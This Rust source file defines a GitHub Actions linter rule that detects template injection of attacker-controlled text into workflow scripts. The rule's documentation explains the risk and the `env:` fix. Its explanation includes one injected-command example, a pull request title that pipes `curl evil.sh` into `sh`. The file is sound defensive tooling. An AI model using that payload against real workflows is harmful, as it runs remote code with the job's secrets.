//! `gha-template-injection`: attacker-controlled text (titles, bodies, commit messages, fork branch
//! names) expanded by `${{ }}` into a `run:` script or an `actions/github-script` script.

use super::{Control, GhaRule, GhaSink, report_injections};
use crate::finding::Severity;
use crate::parse::workflow::GhaFile;
use crate::rules::RuleMeta;

pub struct Rule;
pub static RULE: Rule = Rule;

static META: RuleMeta = RuleMeta {
    id: "gha-template-injection",
    summary: "Attacker-controlled text is expanded into a script",
    severity: Severity::High,
    help: "pass the value through `env:` and quote the variable in the script: `env: TITLE: ${{ github.event.pull_request.title }}` then `\"$TITLE\"`",
    docs: r#"## What it finds

A `${{ … }}` in a `run:` script (of a workflow or a composite action) or in `actions/github-script`'s `script` that reads a context anyone on GitHub can write: issue, pull-request, comment, review and discussion titles and bodies, commit messages and authors, `github.head_ref` and the head branch of a fork, page names. The finding points at the expression itself, also inside block scalars.

## Why it matters

GitHub substitutes expressions into the script text before the shell (or Node) parses it, so a pull request titled `a"; curl evil.sh | sh; echo "` runs that command — with the job's token and secrets. Quoting in the script does not help; only passing the value as an environment variable does.

## How to fix

```yaml
- env:
    TITLE: ${{ github.event.pull_request.title }}
  run: echo "$TITLE"
```
"#,
    references: &[
        "GitHub Docs: Security hardening — Understanding the risk of script injections",
        "zizmor: template-injection",
        "CodeQL: actions/code-injection/critical",
    ],
    tags: &["security", "injection", "github-actions"],
    default_enabled: true,
};

impl GhaRule for Rule {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, w: &GhaFile, sink: &mut GhaSink<'_>) {
        report_injections(w, sink, Control::Attacker, "(attacker-controlled text)");
    }
}
